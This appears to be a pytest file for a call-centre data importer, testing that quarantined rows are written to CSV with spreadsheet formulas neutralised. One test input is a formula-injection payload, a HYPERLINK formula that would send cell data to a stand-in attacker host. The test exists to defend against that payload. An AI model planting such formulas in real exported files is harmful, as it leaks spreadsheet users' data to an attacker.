"""Issue #18, input and output holes found by an attack on the importer: formula-safe quarantine,
non-finite and oversized numbers, future and infinite dates, misleading messages, mapping time limit."""
from __future__ import annotations

import csv
from pathlib import Path

import pytest

from analytics.cli import main as cli_main
from analytics.core import warehouse
from analytics.importer import import_file

CALLS_HEADER = ["call_id", "arrived_at", "queue", "caller_id", "wait_s", "outcome", "agent_id", "talk_s",
                "hold_count"]
GOOD = dict(call_id="K1", arrived_at="2024-04-01 09:00:00", queue="sales", caller_id="5550001", wait_s="12",
            outcome="answered", agent_id="A101", talk_s="300", hold_count="1")


def write_csv(path: Path, header, rows) -> Path:
    with open(path, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(header)
        w.writerows(rows)
    return path


def calls_file(path: Path, *changes: dict) -> Path:
    rows = []
    for i, ch in enumerate(changes or ({},)):
        row = {**GOOD, "call_id": f"K{i + 1}", **ch}
        rows.append([row[c] for c in CALLS_HEADER])
    return write_csv(path, CALLS_HEADER, rows)


@pytest.fixture
def wh(tmp_path) -> Path:
    db = warehouse.init(tmp_path / "wh.duckdb")
    agents = write_csv(tmp_path / "agents.csv", ["agent_id", "name", "role", "hired_on"],
                       [["A101", "Ada", "agent", "2020-01-01"]])
    assert import_file(db, "agents", agents).status == "imported"
    return db


def read_quarantine(path: Path) -> list[dict]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


# ---------------------------------------------------------------- item 12: formula-safe quarantine

def test_quarantine_csv_is_formula_safe(wh, tmp_path):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    f = calls_file(tmp_path / "calls.csv", {"queue": evil, "wait_s": "abc"}, {"queue": "@SUM(A1:A9)", "talk_s": "-5"})
    result = import_file(wh, "calls", f)
    assert result.status == "rejected" and result.quarantine_path
    rows = read_quarantine(result.quarantine_path)
    queues = [r["queue"] for r in rows]
    assert queues == ["'" + evil, "'@SUM(A1:A9)"]
    assert all(not v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
